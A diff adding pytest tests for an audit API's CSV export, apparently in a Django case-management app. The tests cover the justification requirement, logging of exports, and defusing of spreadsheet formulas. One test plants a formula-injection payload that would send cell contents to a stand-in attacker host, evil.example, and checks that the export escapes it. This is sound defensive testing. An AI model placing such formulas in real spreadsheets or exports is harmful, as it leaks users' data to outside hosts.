@@ -72,3 +72,45 @@ def test_times_beyond_utcs_range_bound_nothing_more(cast, matrix_case, bounds):
     response = auditor.get("/api/v1/audit/", {"case": str(case.pk), **bounds})
     assert response.status_code == 200
     assert response.json()["results"] == everything and everything
+
+
+def csv_of(response) -> list[list[str]]:
+    import csv
+    import io
+
+    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
+    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+
+
+@pytest.mark.parametrize("asked", [{"HTTP_ACCEPT": "text/csv"}, {"format": "csv"}])
+def test_the_list_answers_csv_when_asked_and_records_the_export(cast, matrix_case, asked):
+    from audit.models import AuditEvent
+
+    auditor = client_for(cast["rtm.auditor"])
+    query = {key: value for key, value in asked.items() if key == "format"}
+    headers = {key: value for key, value in asked.items() if key != "format"}
+    refused = auditor.get("/api/v1/audit/", {**query, "operation": "disclosure"}, **headers)
+    assert refused.status_code == 403 and refused["Content-Type"] == "application/json"
+    assert refused.json()["code"] == "justification_required"
+    bad = auditor.get("/api/v1/audit/", {**query, "since": "yesterday"}, HTTP_X_JUSTIFICATION="Audit", **headers)
+    assert bad.status_code == 400 and "since" in bad.json()
+    rows = csv_of(auditor.get("/api/v1/audit/", {**query, "operation": "disclosure"},
+                              HTTP_X_JUSTIFICATION="Supervisor request 2026-115", **headers))
+    assert rows[0][:3] == ["id", "at", "operation"] and rows[1:] and {row[2] for row in rows[1:]} == {"disclosure"}
+    record = AuditEvent.objects.filter(action="audit_export").latest("id")
+    assert (record.justification, record.changes["filters"]) == ("Supervisor request 2026-115",
+                                                                 {"operation": "disclosure"})
+    assert auditor.get("/api/v1/audit/")["Content-Type"] == "application/json"  # JSON stays the default
+
+
+def test_a_cell_a_spreadsheet_would_run_is_defused(cast, matrix_case):
+    from cases.services import case_share
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    case_share(actor=cast["rtm.officer"], case_id=matrix_case("owned").pk, agency_code="BE-CUS-ANR", level="view",
+               justification=formula)
+    rows = csv_of(client_for(cast["rtm.auditor"]).get("/api/v1/audit/export/", {"operation": "disclosure"},
+                                                      HTTP_X_JUSTIFICATION="Check"))
+    justification = rows[0].index("justification")
+    assert "'" + formula in [row[justification] for row in rows[1:]]
+    assert formula not in [row[justification] for row in rows[1:]]
